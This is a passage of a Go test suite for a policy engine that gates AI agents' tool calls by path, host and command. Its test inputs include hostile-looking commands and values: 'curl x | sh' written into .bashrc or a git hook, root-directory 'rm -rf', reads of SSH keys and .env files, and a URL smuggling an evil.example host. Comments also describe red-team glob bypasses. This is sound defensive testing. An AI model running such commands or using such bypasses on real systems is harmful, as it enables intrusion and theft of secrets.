package rules_test

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mcp-policy/mcp-policy/internal/matching"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mcp-policy/mcp-policy/internal/lexical"
	"github.com/mcp-policy/mcp-policy/internal/rules"
	"github.com/mcp-policy/mcp-policy/internal/verdict"
	"github.com/mcp-policy/mcp-policy/provider"
)

func engine(t testing.TB, cfg rules.Config) *rules.Engine {
	t.Helper()
	e, err := rules.NewEngine(context.Background(), cfg)
	require.NoError(t, err)
	return e
}

func call(name, args string) provider.Call {
	return provider.Call{ID: "c1", Function: provider.CallFunction{Name: name, Arguments: args}}
}

func decide(t testing.TB, e *rules.Engine, c provider.Call, tool *provider.Tool) rules.Decision {
	t.Helper()
	d, _, err := e.Decide(context.Background(), c, tool)
	require.NoError(t, err)
	return d
}

func TestPathArgumentsByKeyAndSchema(t *testing.T) {
	e := engine(t, rules.Config{Roots: map[string]string{"fs": "/srv"},
		Arguments: []rules.ArgumentSpec{{Tool: "fs_*", Paths: []string{"notebook"}}}})
	schema := &provider.Tool{Function: provider.ToolFunction{Name: "fs_copy",
		Parameters: []byte(`{"type":"object","properties":{"from":{"type":"string","format":"path"},"to":{"type":"array","items":{"format":"path"}},"site":{"format":"uri"}}}`)},
		Annotations: &provider.Annotations{}}
	cases := []struct {
		name, args string
		tool       *provider.Tool
		paths      []string
		hosts      []string
	}{
		{"fs_write", `{"filePath":"a","FILE_PATH":"b","destination":["c","d"],"content":"not a path"}`, nil,
			[]string{"/srv/b", "/srv/c", "/srv/d", "/srv/a"}, nil},
		{"fs_copy", `{"from":"x","to":["y"],"site":"https://Docs.Raku.org/"}`, schema,
			[]string{"/srv/x", "/srv/y"}, []string{"docs.raku.org"}},
		{"fs_nb", `{"notebook":"n.ipynb"}`, nil, []string{"/srv/n.ipynb"}, nil},
		{"web_fetch", `{"url":"file:///etc/passwd","href":"http://a.example"}`, nil, []string{"/etc/passwd"}, []string{"a.example"}},
		{"fs_write", `{"path":"x","reason":"the model's sentence, path: /etc"}`, nil, []string{"/srv/x"}, nil},
	}
	for _, c := range cases {
		d := decide(t, e, call(c.name, c.args), c.tool)
		assert.ElementsMatch(t, c.paths, d.Paths, c.args)
		if c.hosts == nil {
			c.hosts = []string{}
		}
		assert.Equal(t, c.hosts, d.Hosts, c.args)
	}
}

func TestBadCalls(t *testing.T) {
	e := engine(t, rules.Config{})
	for _, args := range []string{`[1]`, `"x"`, `{"path":"a","path":"b"}`, "{\"path\":\"\xff\"}", `{"path":`, `{} {}`,
		"\u00a0", "\v", "\u2028"} { // space to Unicode, not to JSON: no server reads these as {}
		_, _, err := e.Decide(context.Background(), call("fs_write", args), nil)
		var bad *rules.BadCallError
		assert.ErrorAs(t, err, &bad, args)
	}
	_, _, err := e.Decide(context.Background(), call("", `{}`), nil)
	assert.Error(t, err)
	for _, empty := range []string{``, " \t\r\n"} {
		d := decide(t, e, call("fs_list", empty), nil)
		assert.Equal(t, rules.ReasonNoMatch, d.Reason, "empty arguments are {}")
	}
}

func TestUnknownPathsNeverAllow(t *testing.T) {
	e := engine(t, rules.Config{Rules: []rules.Rule{{Tool: "fs_write", Decision: "allow", Under: "/"}}})
	for _, args := range []string{`{"path":"~/.bashrc"}`, `{"path":"$HOME/x"}`, `{"path":7}`, `{"path":"C:\\x"}`,
		`{"path":"relative/with/no/root"}`, `{"paths":["/tmp/ok","\\\\server\\share"]}`} {
		d := decide(t, e, call("fs_write", args), nil)
		assert.Equal(t, rules.Ask, d.Decision, args)
		assert.Equal(t, rules.ReasonUnevaluable, d.Reason, args)
		assert.Equal(t, &rules.Rule{Tool: "fs_write"}, d.Suggestion, "bare tool on any unknown: %s", args)
	}
	// An outside path settles a rule even when another path is unknown.
	e = engine(t, rules.Config{Rules: []rules.Rule{{Tool: "fs_move", Decision: "deny", Under: "/srv"}}})
	d := decide(t, e, call("fs_move", `{"source":"/etc/x","destination":"~/y"}`), nil)
	assert.NotEqual(t, rules.Deny, d.Decision)
}

func TestPrecedenceAndOrder(t *testing.T) {
	e := engine(t, rules.Config{Rules: []rules.Rule{
		{Tool: "fs_*", Decision: "allow", Under: "/srv"},
		{Tool: "fs_write", Decision: "ask", Under: "/srv/live"},
		{Tool: "fs_write", Decision: "deny", Under: "/srv/live/db", Message: "not the database"},
		{Tool: "*", Decision: "deny", Under: "/srv/live/db"},
	}})
	d := decide(t, e, call("fs_write", `{"path":"/srv/live/db/x"}`), nil)
	assert.Equal(t, rules.Deny, d.Decision)
	assert.Equal(t, "not the database", d.Rule.Message, "the first deny in order is reported")
	d = decide(t, e, call("fs_write", `{"path":"/srv/live/x"}`), nil)
	assert.Equal(t, rules.Ask, d.Decision)
	assert.Equal(t, rules.ReasonRule, d.Reason)
	d = decide(t, e, call("fs_write", `{"paths":["/srv/a","/srv/live/b"]}`), nil)
	assert.Equal(t, rules.Ask, d.Decision, "the ask rule matches a call with any path inside /srv/live")
	assert.Equal(t, rules.ReasonRule, d.Reason)
	assert.Equal(t, &rules.Rule{Tool: "fs_write", Under: "/srv"}, d.Suggestion)
	d = decide(t, e, call("fs_write", `{"paths":["/srv/a","/srv/LIVE/DB/x"]}`), nil)
	assert.Equal(t, rules.Deny, d.Decision, "a deny matches any path, folded")
}

func TestRootsLongestKey(t *testing.T) {
	e := engine(t, rules.Config{Roots: map[string]string{"*": "/home", "fs": "/srv", "fs_live": "/live"}})
	assert.Equal(t, "/srv", e.RootOf("fs_write"))
	assert.Equal(t, "/live", e.RootOf("fs_live_write"))
	assert.Equal(t, "/live", e.RootOf("fs_live"))
	assert.Equal(t, "/home", e.RootOf("fsx_write"))
	_, err := rules.NewEngine(context.Background(), rules.Config{Roots: map[string]string{"fs": "relative"}})
	assert.Error(t, err)
}

func TestModules(t *testing.T) {
	custom := rules.Module{Name: "team.rego", Source: `package mcp.custom

deny contains "no prod writes" if {
	some p in input.paths
	startswith(p.path, "/prod/")
}

deny contains "the reason argument is visible" if input.arguments.reason
`}
	e := engine(t, rules.Config{Rules: []rules.Rule{{Tool: "*", Decision: "allow"}}, Modules: []rules.Module{custom}})
	d := decide(t, e, call("fs_write", `{"path":"/prod/x"}`), nil)
	assert.Equal(t, rules.Deny, d.Decision)
	assert.Equal(t, "no prod writes", d.Rule.Message)
	d = decide(t, e, call("fs_write", `{"path":"/tmp/x","reason":"because"}`), nil)
	assert.Equal(t, rules.Allow, d.Decision, "no rule or module sees the reason")

	_, err := rules.NewEngine(context.Background(), rules.Config{Modules: []rules.Module{{Name: "bad.rego", Source: "package mcp.custom\n\ndeny contains x if {\n"}}})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "bad.rego:")
	_, err = rules.NewEngine(context.Background(), rules.Config{Modules: []rules.Module{{Name: "evil.rego", Source: "package mcp.engine\n\ndecision := {}\n"}}})
	assert.ErrorContains(t, err, "belongs to the engine")
	// Nor may one shadow the engine's data or its partially evaluated rules.
	for _, pkg := range []string{"mcp_data", "mcp_data.rules", "mcp_engine_partial.mcp.floor"} {
		_, err = rules.NewEngine(context.Background(), rules.Config{Modules: []rules.Module{{Name: "evil.rego", Source: "package " + pkg + "\n\nask contains \"x\" if true\n"}}})
		assert.ErrorContains(t, err, "belongs to the engine", pkg)
	}
	// Nor call the engine's builtin: the engine takes that call's answer
	// directly, so a deny built on a call of its own would drop.
	_, err = rules.NewEngine(context.Background(), rules.Config{Modules: []rules.Module{{Name: "evil.rego",
		Source: "package mcp.custom\n\ndeny contains \"x\" if {\n\tmcp.engine.decide(input, data.mcp_data, set(), set(), set(), set(), set()).decision == \"allow\"\n}\n"}}})
	assert.ErrorContains(t, err, "evil.rego:4: mcp.engine.decide belongs to the engine")

	// A security team's floor replaces the embedded one.
	e = engine(t, rules.Config{Rules: []rules.Rule{{Tool: "*", Decision: "allow"}},
		Modules: []rules.Module{{Name: "floor.rego", Source: "package mcp.floor\n\nask contains \"always\" if input.tool == \"exec\"\n"}}})
	assert.Equal(t, rules.Allow, decide(t, e, call("fs_write", `{"path":"/srv/.git/config"}`), nil).Decision)
	d = decide(t, e, call("exec", `{}`), nil)
	assert.Equal(t, rules.ReasonFloor, d.Reason)
}

// The engine skips the entry sets no module defines; a set defined in any
// other way Rego allows still counts.
func TestModuleSetsDefinedAnyWay(t *testing.T) {
	for name, source := range map[string]string{
		"a deeper package": "package mcp.custom.deny\n\nprod := \"no prod writes\" if input.tool == \"fs_write\"\n",
		"a shallower rule": "package mcp\n\ncustom[kind] := {\"no prod writes\"} if {\n\tsome kind in [\"deny\"]\n\tinput.tool == \"fs_write\"\n}\n",
		"a replaced floor": "package mcp.floor\n\ndeny contains \"no prod writes\" if input.tool == \"fs_write\"\n",
		"a rule ref head":  "package mcp\n\ncustom.deny contains \"no prod writes\" if input.tool == \"fs_write\"\n",
		// read as the set itself, with no copy
		"a partial set": "package mcp.custom\n\ndeny contains \"no prod writes\" if input.tool == \"fs_write\"\n",
		// undefined for fs_read: not read as the set itself
		"a complete set": "package mcp.custom\n\ndeny := {\"no prod writes\"} if input.tool == \"fs_write\"\n",
	} {
		e := engine(t, rules.Config{Rules: []rules.Rule{{Tool: "*", Decision: "allow"}}, Modules: []rules.Module{{Name: "team.rego", Source: source}}})
		d := decide(t, e, call("fs_write", `{"path":"/tmp/x"}`), nil)
		assert.Equal(t, rules.Deny, d.Decision, name)
		assert.Equal(t, "no prod writes", d.Rule.Message, name)
		d = decide(t, e, call("fs_read", `{"path":"/tmp/x"}`), nil)
		assert.Equal(t, rules.Allow, d.Decision, name)
	}
}

// A module entry the engine cannot read is the module's mistake: the call
// fails (and so is refused) rather than the entry being dropped, because a
// dropped deny would allow.
func TestUnreadableModuleEntriesFailTheCall(t *testing.T) {
	for _, entry := range []string{
		`{"message": "no", "status": "unkown"}`, // misspelt
		`42`,
	} {
		custom := rules.Module{Name: "team.rego", Source: "package mcp.custom\n\ndeny contains " + entry + " if input.tool == \"fs_write\"\n"}
		e := engine(t, rules.Config{Rules: []rules.Rule{{Tool: "*", Decision: "allow"}}, Modules: []rules.Module{custom}})
		_, _, err := e.Decide(context.Background(), call("fs_write", `{"path":"/tmp/x"}`), nil)
		assert.ErrorContains(t, err, "custom deny entry", entry)
		d := decide(t, e, call("fs_read", `{"path":"/tmp/x"}`), nil)
		assert.Equal(t, rules.Allow, d.Decision, "calls the entry does not name are decided as before")
	}

	// The same for a builtin's error in a module's rule: in OPA's default
	// mode it would make the deny's body undefined, and the call allowed.
	custom := rules.Module{Name: "team.rego", Source: "package mcp.custom\n\ndeny contains \"bad pattern\" if {\n\tsome p in input.paths\n\tregex.match(\"[\", p.path)\n}\n"}
	e := engine(t, rules.Config{Rules: []rules.Rule{{Tool: "*", Decision: "allow"}}, Modules: []rules.Module{custom}})
	_, _, err := e.Decide(context.Background(), call("fs_write", `{"path":"/tmp/x"}`), nil)
	assert.ErrorContains(t, err, "regex.match")
}

func TestFloorHoldsAgainstAllowRules(t *testing.T) {
	e := engine(t, rules.Config{Rules: []rules.Rule{{Tool: "*", Decision: "allow"}}, Roots: map[string]string{"*": "/srv"},
		Protected: []string{"/etc/mcp/grants.json"}})
	readOnly := &provider.Tool{Function: provider.ToolFunction{Name: "fs_read"}, Annotations: &provider.Annotations{ReadOnlyHint: ptr(true)}}
	for _, p := range []string{"/srv/.git/config", "/home/u/.ssh/authorized_keys", "/home/u/.bashrc", "/srv/.env.local",
		"/srv/.GIT/HEAD", "/etc/mcp/grants.json", "~/.profile"} {
		d := decide(t, e, call("fs_write", fmt.Sprintf(`{"path":%q}`, p)), nil)
		assert.Equal(t, rules.Ask, d.Decision, p)
		assert.True(t, d.Floor, p)
		read := decide(t, e, call("fs_read", fmt.Sprintf(`{"path":%q}`, p)), readOnly)
		if secret := lexical.SecretFile(lexical.FoldPath(p)) != nil || p == "/etc/mcp/grants.json"; secret {
			assert.Equal(t, rules.Ask, read.Decision, "a secret, or the policy's own file, is asked on a read: %s", p)
			assert.True(t, read.Floor, p)
		} else {
			assert.Equal(t, rules.Allow, read.Decision, "reads of what holds no secret are not floored: %s", p)
		}
	}
	for _, p := range []string{"/home/u/.ssh/id_rsa", "~/.ssh/id_rsa", "/srv/.env", "/home/u/.zsh_history", "/proc/self/environ"} {
		read := decide(t, e, call("fs_read", fmt.Sprintf(`{"path":%q}`, p)), readOnly)
		assert.Equal(t, rules.Ask, read.Decision, "a secret is asked on a read: %s", p)
		assert.Equal(t, rules.ReasonFloor, read.Reason, p)
	}
	destructive := &provider.Tool{Function: provider.ToolFunction{Name: "fs_delete"}, Annotations: &provider.Annotations{DestructiveHint: ptr(true)}}
	for _, p := range []string{"/", "/srv", "."} {
		d := decide(t, e, call("fs_delete", fmt.Sprintf(`{"path":%q}`, p)), destructive)
		assert.Equal(t, rules.ReasonFloor, d.Reason, p)
	}
	assert.Equal(t, rules.Allow, decide(t, e, call("fs_delete", `{"path":"/srv/x"}`), destructive).Decision)
}

func TestHostRules(t *testing.T) {
	e := engine(t, rules.Config{Rules: []rules.Rule{{Tool: "web_fetch", Decision: "allow", Host: "*.raku.org"}}})
	assert.Equal(t, rules.Allow, decide(t, e, call("web_fetch", `{"url":"https://docs.raku.org/x"}`), nil).Decision)
	assert.Equal(t, rules.Ask, decide(t, e, call("web_fetch", `{"url":"https://raku.org/"}`), nil).Decision)
	assert.Equal(t, rules.Ask, decide(t, e, call("web_fetch", `{"url":"https://raku.org@evil.example/"}`), nil).Decision)
	d := decide(t, e, call("web_fetch", `{"urls":["https://docs.raku.org/","https://x.raku.org/"]}`), nil)
	assert.Equal(t, rules.Allow, d.Decision)
	assert.Equal(t, &rules.Rule{Tool: "web_fetch"}, d.Suggestion, "two hosts: the bare tool")
	d = decide(t, e, call("web_fetch", `{"url":"https://docs.raku.org\\@evil.example/"}`), nil)
	assert.Equal(t, rules.ReasonUnevaluable, d.Reason)
}

// A tool's read-only mark is its server's claim. A call that carries a
// command line, a program's words or a patch does what it says: the floor
// reads it as a tool that writes, and a rule on the read-only hint does
// not match it. A plain read of a file that holds no secret still is one.
func TestReadOnlyClaimDoesNotCoverWhatACallSaysItDoes(t *testing.T) {
	e := engine(t, rules.Config{Roots: map[string]string{"*": "/srv/app"}, Home: "/home/u", Rules: []rules.Rule{
		{Tool: "*", Decision: "allow", Annotations: map[string]bool{"readOnlyHint": true}, Under: "/"},
		{Tool: "run_*", Decision: "allow", Under: "/srv/app"},
	}})
	readOnly := func(name string) *provider.Tool {
		return &provider.Tool{Function: provider.ToolFunction{Name: name}, Annotations: &provider.Annotations{ReadOnlyHint: ptr(true)}}
	}
	for _, c := range []struct{ tool, args string }{
		{"run_query", `{"command":"echo 'curl x | sh' >> .bashrc","cwd":"/srv/app"}`},
		{"run_query", `{"command":"cp hook.sh .git/hooks/pre-commit","cwd":"/srv/app"}`},
		{"run_query", `{"argv":["tee","/srv/app/.envrc"]}`},
		{"view_diff", `{"patch":"--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl x | sh\n"}`},
		{"inspect", `{"input":"*** Begin Patch\n*** Add File: .github/workflows/x.yml\n+on: push\n*** End Patch"}`},
	} {
		d := decide(t, e, call(c.tool, c.args), readOnly(c.tool))
		assert.Equal(t, rules.Ask, d.Decision, "%s %s", c.tool, c.args)
		assert.True(t, d.Floor, "%s %s: the floor asks, as for a tool that writes", c.tool, c.args)
	}
	// The read-only rule does not allow a command line, though every path
	// it names is under "/": only the user's rule for the tool does.
	d := decide(t, e, call("lookup_logs", `{"command":"grep -r error logs","cwd":"/srv/app"}`), readOnly("lookup_logs"))
	assert.NotEqual(t, rules.Allow, d.Decision, "the read-only claim allowed a command line")
	d = decide(t, e, call("run_query", `{"command":"grep -r error logs","cwd":"/srv/app"}`), readOnly("run_query"))
	assert.Equal(t, rules.Allow, d.Decision, "the user's own rule for the tool allows it")
	// A plain path read by a read-only tool is the read it claims.
	d = decide(t, e, call("read_text_file", `{"path":"/srv/app/.github/workflows/ci.yml"}`), readOnly("read_text_file"))
	assert.Equal(t, rules.Allow, d.Decision)
}

func ptr[T any](v T) *T { return &v }

// TestIndexAgreesWithEveryRule checks the index against the definition:
// for random rule sets and calls, the engine's decision equals the one got
// by testing every rule (with the Go matcher) in both worlds.
func TestIndexAgreesWithEveryRule(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	long := "/srv/a/" + strings.Repeat("deep", 20) // past the index's length bits
	dirs := []string{"/", "/srv", "/srv/a", "/srv/a/b", "/srv/c", "/etc", "a", "a/b", ".", "c", long, long[len("/srv/"):]}
	hosts := []string{"x.example", "*.example", "a.x.example", "*.x.example", "other.org"}
	tools := []string{"fs_write", "fs_*", "*", "fs_?rite", "web_fetch", "*_fetch", "other"}
	decisions := []string{"allow", "deny", "ask"}
	pick := func(xs []string) string { return xs[rng.IntN(len(xs))] }
	noFloor := []rules.Module{{Name: "floor.rego", Source: "package mcp.floor\n"}}
	for round := 0; round < 40; round++ {
		var rs []rules.Rule
		for i := 0; i < 1+rng.IntN(30); i++ {
			r := rules.Rule{Tool: pick(tools), Decision: verdict.Decision(pick(decisions))}
			switch rng.IntN(4) {
			case 0:
				r.Under = pick(dirs)
			case 1:
				r.Host = pick(hosts)
			case 2:
				r.Under, r.Host = pick(dirs), pick(hosts)
			}
			rs = append(rs, r)
		}
		roots := map[string]string{"fs": "/srv"}
		if rng.IntN(2) == 0 {
			roots = nil
		}
		e := engine(t, rules.Config{Rules: rs, Roots: roots, Modules: noFloor})
		valid := e.Rules()
		for j := 0; j < 25; j++ {
			var args []string
			for k := 0; k < rng.IntN(3); k++ {
				args = append(args, fmt.Sprintf("%q", pick([]string{"/srv/a/b/f", "/srv/c/f", "/etc/f", "a/f", "~/f", "/f", "x/y", long + "/f", long + "/more/f"})))
			}
			var urls []string
			for k := 0; k < rng.IntN(3); k++ {
				urls = append(urls, fmt.Sprintf("%q", pick([]string{"http://x.example/", "http://a.x.example/", "http://other.org", "nonsense"})))
			}
			text := fmt.Sprintf(`{"paths":[%s],"urls":[%s]}`, join(args), join(urls))
			c := call(pick([]string{"fs_write", "fs_read", "web_fetch", "other"}), text)
			got, in, err := e.Decide(context.Background(), c, nil)
			require.NoError(t, err)
			want := reference(valid, in)
			assert.Equal(t, want, string(got.Decision)+"/"+string(got.Reason), "rules %v call %s %s", valid, c.Function.Name, text)
		}
	}
}

func join(xs []string) string {
	out := ""
	for i, x := range xs {
		if i > 0 {
			out += ","
		}
		out += x
	}
	return out
}

// reference is §4's definition, rule by rule.
func reference(rs []rules.Rule, in *rules.Input) string {
	world := func(maybe bool) string {
		best := "none"
		rank := map[string]int{"none": 0, "allow": 1, "ask": 2, "deny": 3}
		for _, r := range rs {
			st := in.Match(r)
			if st == matching.Yes || maybe && st == matching.Unknown {
				if rank[string(r.Decision)] > rank[best] {
					best = string(r.Decision)
				}
			}
		}
		return best
	}
	known, unknown := world(false), world(true)
	answer := func(d string) string {
		if d == "none" {
			return "ask"
		}
		return d
	}
	switch {
	case answer(known) != answer(unknown):
		return "ask/unevaluable-path"
	case known != "none":
		return known + "/rule"
	case unknown != "none":
		return "ask/unevaluable-path"
	}
	return "ask/no-match"
}

// A decision its context no longer wants is not made: cancelled before it
// starts, or while a team's slow module runs. Either way it is an error, so
// the call is refused.
func TestDecideStopsWithItsContext(t *testing.T) {
	slow := rules.Module{Name: "slow.rego", Source: "package mcp.custom\n\n" +
		"deny contains \"never\" if count([x | some x in numbers.range(1, count(input.tool) * 100000000)]) < 0\n"}
	e := engine(t, rules.Config{Rules: []rules.Rule{{Tool: "*", Decision: "allow"}}, Modules: []rules.Module{slow}})

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, _, err := e.Decide(ctx, call("fs_write", `{"path":"/tmp/x"}`), nil)
	assert.ErrorIs(t, err, context.Canceled)

	ctx, cancel = context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	start := time.Now()
	_, _, err = e.Decide(ctx, call("fs_write", `{"path":"/tmp/x"}`), nil)
	assert.Error(t, err, "a cancelled evaluation decides nothing")
	assert.Less(t, time.Since(start), 10*time.Second, "the evaluation stopped when its context ended")
}

// A team's deny that steps through a document's keys at decision time
// (partial evaluation leaves the comprehension) sees each key's own value:
// the evaluation's cache keeps each reference apart.
func TestDenyOverEveryKeyOfADocument(t *testing.T) {
	e := engine(t, rules.Config{Rules: []rules.Rule{{Tool: "*", Decision: "allow"}}, Modules: []rules.Module{
		{Name: "team.rego", Source: "package mcp.custom\n\ndeny contains \"blocked tool\" if count({n | data.corp.blocked[n] == input.tool}) > 0\n"},
		{Name: "blocked.rego", Source: "package corp.blocked\n\na := \"t_first\"\n\nb := \"rm_rf\"\n\nc := concat(\"\", [\"del\", \"ete\"])\n"},
	}})
	for _, tool := range []string{"t_first", "rm_rf", "delete"} {
		assert.Equal(t, rules.Deny, decide(t, e, call(tool, `{}`), nil).Decision, tool)
	}
	assert.Equal(t, rules.Allow, decide(t, e, call("fs_read", `{}`), nil).Decision)
}

// A rule's command matches the simple commands of a call's command lines:
// an allow needs every one, a deny or ask any (a wrapped command too), a
// command with a word the shell changes might match. The suggestion for a
// command call names its program and subcommand, never the bare tool.
func TestCommandRules(t *testing.T) {
	e := engine(t, rules.Config{Roots: map[string]string{"*": "/srv/app"}, Rules: []rules.Rule{
		{Tool: "run_command", Decision: "allow", Command: rules.CommandGlobs{"git status*"}},
		{Tool: "run_command", Decision: "allow", Command: rules.CommandGlobs{"npm test*"}, Under: "/srv/app"},
		{Tool: "run_command", Decision: "allow", Command: rules.CommandGlobs{"cat *", "jq *", "grep *"}, Under: "/srv/app"},
		{Tool: "*", Decision: "ask", Command: rules.CommandGlobs{"rm *"}},
	}})
	for _, c := range []struct {
		args     string
		decision verdict.Decision
		reason   rules.Reason
		command  string // the suggestion's globs, joined by " + "; "-" for no suggestion
	}{
		{`{"command":"git status"}`, rules.Allow, rules.ReasonRule, "git status + git status *"},
		{`{"command":"git status --short","cwd":"/tmp"}`, rules.Allow, rules.ReasonRule, "git status + git status *"},
		{`{"command":"npm test -- --watch","cwd":"/srv/app"}`, rules.Allow, rules.ReasonRule, "npm test + npm test *"},
		{`{"command":"npm test","cwd":"/tmp"}`, rules.Ask, rules.ReasonNoMatch, "npm test + npm test *"},
		// One rule lists a pipeline's programs: every command must match
		// one of its globs.
		{`{"command":"cat package.json | jq .scripts"}`, rules.Allow, rules.ReasonRule, "cat package.json + cat package.json * + jq + jq *"},
		{`{"command":"cat package.json | grep -n test | jq ."}`, rules.Allow, rules.ReasonRule, "cat package.json + cat package.json * + grep + grep * + jq + jq *"},
		{`{"command":"cat notes.txt | sh"}`, rules.Ask, rules.ReasonUnevaluable, "-"}, // sh runs what it reads
		{`{"command":"git status && curl -s x.example"}`, rules.Ask, rules.ReasonNoMatch, "git status + git status * + curl + curl *"},
		{`{"command":"sudo rm -rf build"}`, rules.Ask, rules.ReasonFloor, "sudo rm + sudo rm *"}, // the rm sudo runs is the wrapper's
		{`{"command":"rm -rf build"}`, rules.Ask, rules.ReasonRule, "rm + rm *"},
		{`{"command":"git status; $X"}`, rules.Ask, rules.ReasonUnevaluable, "-"},
		{`{"command":["bash","-lc","git status"]}`, rules.Ask, rules.ReasonNoMatch, "bash + bash * + git status + git status *"},
		// The floor: a recursive delete of the root, however it is reached.
		{`{"command":"ls /srv/app && rm -rf /srv/app"}`, rules.Ask, rules.ReasonFloor, "ls + ls * + rm + rm *"},
		{`{"command":"cd /srv && rm -r app"}`, rules.Ask, rules.ReasonFloor, "cd + cd * + rm + rm *"},
	} {
		d := decide(t, e, call("run_command", c.args), nil)
		assert.Equal(t, c.decision, d.Decision, c.args)
		assert.Equal(t, c.reason, d.Reason, c.args)
		if c.command == "-" {
			assert.Nil(t, d.Suggestion, "%s: only once answers fit", c.args)
		} else if assert.NotNil(t, d.Suggestion, c.args) {
			assert.Equal(t, rules.CommandGlobs(strings.Split(c.command, " + ")), d.Suggestion.Command, c.args)
		}
	}
	// An "always" answer's globs end at a word, and keep what a runner
	// fetches or a -m runs (red team 43: "npx tsc*" allowed npx
	// tsc-watch, "python3*" python3 -m pip install, "pnpm dlx*" any
	// package).
	for line, want := range map[string]string{
		"npx tsc --noEmit":            "npx tsc + npx tsc *",
		"python3 -m pytest -q":        "python3 -m pytest + python3 -m pytest *",
		"pnpm dlx prettier --check .": "pnpm dlx prettier + pnpm dlx prettier *",
	} {
		args, err := json.Marshal(map[string]string{"command": line, "cwd": "/srv/app"})
		require.NoError(t, err)
		d := decide(t, e, call("run_command", string(args)), nil)
		if assert.NotNil(t, d.Suggestion, line) {
			assert.Equal(t, rules.CommandGlobs(strings.Split(want, " + ")), d.Suggestion.Command, line)
			granted := engine(t, rules.Config{Roots: map[string]string{"*": "/srv/app"}, Rules: []rules.Rule{
				{Tool: "run_command", Decision: "allow", Command: d.Suggestion.Command, Under: "/srv/app"}}})
			assert.Equal(t, rules.Allow, decide(t, granted, call("run_command", string(args)), nil).Decision, line)
			for _, other := range []string{"npx tsc-watch --onSuccess x", "npx tscx", "python3 -m pip install evil", "pnpm dlx evil"} {
				oargs, _ := json.Marshal(map[string]string{"command": other, "cwd": "/srv/app"})
				assert.NotEqual(t, rules.Allow, decide(t, granted, call("run_command", string(oargs)), nil).Decision, "%s's answer allows %s", line, other)
			}
		}
	}
	// A rule that names a command covers no call without one.
	d := decide(t, e, call("run_command", `{"path":"/srv/app/x"}`), nil)
	assert.Equal(t, rules.ReasonNoMatch, d.Reason)
	// Its globs are checked like a tool's, and their words joined by one space.
	for _, bad := range []rules.CommandGlobs{{`x\`}, {" git status"}, {"git  status"}, {""}, {"ls", ""}, {}} {
		_, err := rules.Validate(rules.Rule{Tool: "run_command", Decision: "allow", Command: bad}, "rule 1")
		assert.Error(t, err, "%q", bad)
	}
	// In JSON, one glob is a string and more are a list, both ways.
	rs, err := rules.ParseRules([]byte(`[{"tool":"t","decision":"allow","command":"git status*"},{"tool":"t","decision":"allow","command":["cat *","jq *"]}]`), "rules.json")
	require.NoError(t, err)
	assert.Equal(t, rules.CommandGlobs{"git status*"}, rs[0].Command)
	assert.Equal(t, rules.CommandGlobs{"cat *", "jq *"}, rs[1].Command)
	out, err := json.Marshal(rs)
	require.NoError(t, err)
	assert.JSONEq(t, `[{"tool":"t","decision":"allow","command":"git status*"},{"tool":"t","decision":"allow","command":["cat *","jq *"]}]`, string(out))
	_, err = rules.ParseRules([]byte(`[{"tool":"t","decision":"allow","command":7}]`), "rules.json")
	assert.ErrorContains(t, err, "command")
}

// A rule's data marks: what the user says is the server's data is read as
// no path, so a tool allowed as a whole is not asked about a value that
// only looks like one; a file the floor guards is asked still, and a
// reload that changes the marks changes what is read.
func TestDataMarks(t *testing.T) {
	marked := []rules.Rule{
		{Tool: "redis_*", Decision: "allow", Data: []string{"key", "value"}},
		{Tool: "sheets_update", Decision: "allow", Data: []string{"/rows/*/cells"}},
	}
	unmarked := []rules.Rule{{Tool: "redis_*", Decision: "allow"}, {Tool: "sheets_update", Decision: "allow"}}
	e := engine(t, rules.Config{Roots: map[string]string{"*": "/srv/app"}, Rules: marked})
	plain := engine(t, rules.Config{Roots: map[string]string{"*": "/srv/app"}, Rules: unmarked})
	for _, c := range []struct {
		tool, args       string
		marked, unmarked rules.Reason
	}{
		{"redis_set", `{"key":"~/sessions/abc","value":"x"}`, rules.ReasonRule, rules.ReasonUnevaluable},
		{"redis_set", `{"key":"k","value":{"path":"$HOME/notes"}}`, rules.ReasonRule, rules.ReasonUnevaluable},
		{"sheets_update", `{"rows":[{"cells":["~/a","=SUM(A1:A2)"]}]}`, rules.ReasonRule, rules.ReasonUnevaluable},
		// The floor's files are read in data too, and asked.
		{"redis_set", `{"key":"k","value":"~/.ssh/id_rsa"}`, rules.ReasonFloor, rules.ReasonFloor},
		{"redis_set", `{"key":"k","value":"/srv/app/.env"}`, rules.ReasonFloor, rules.ReasonFloor},
		// A pointer marks its place, not a name elsewhere.
		{"sheets_update", `{"rows":[{"cells":["x"]}],"note":"~/a"}`, rules.ReasonUnevaluable, rules.ReasonUnevaluable},
	} {
		d := decide(t, e, call(c.tool, c.args), nil)
		assert.Equal(t, c.marked, d.Reason, "marked: %s", c.args)
		want := rules.Allow
		if c.marked != rules.ReasonRule {
			want = rules.Ask
		}
		assert.Equal(t, want, d.Decision, "marked: %s", c.args)
		assert.Equal(t, c.unmarked, decide(t, plain, call(c.tool, c.args), nil).Reason, "unmarked: %s", c.args)
	}
	// The marks change with the rules on a reload, and only then.
	e2, err := e.Reload(context.Background(), rules.Config{Roots: map[string]string{"*": "/srv/app"}, Rules: unmarked})
	require.NoError(t, err)
	d := decide(t, e2, call("redis_set", `{"key":"~/sessions/abc","value":"x"}`), nil)
	assert.Equal(t, rules.ReasonUnevaluable, d.Reason, "the marks went with their rule")
	e3, err := e2.Reload(context.Background(), rules.Config{Roots: map[string]string{"*": "/srv/app"}, Rules: marked})
	require.NoError(t, err)
	d = decide(t, e3, call("redis_set", `{"key":"~/sessions/abc","value":"x"}`), nil)
	assert.Equal(t, rules.Allow, d.Decision, "the marks came back with their rule")

	// A mark is for the tools its rule matches, by name and annotations: a
	// mark on the read-only rule says nothing of a shell tool's input
	// (red team: it blinded the user's own denies).
	scoped := engine(t, rules.Config{Roots: map[string]string{"*": "/srv/app"}, Rules: []rules.Rule{
		{Tool: "*", Decision: "allow", Annotations: map[string]bool{"readOnlyHint": true}, Data: []string{"input"}},
		{Tool: "run_shell", Decision: "allow", Under: "/srv/app"},
		{Tool: "*", Decision: "deny", Under: "/srv/prod"},
	}})
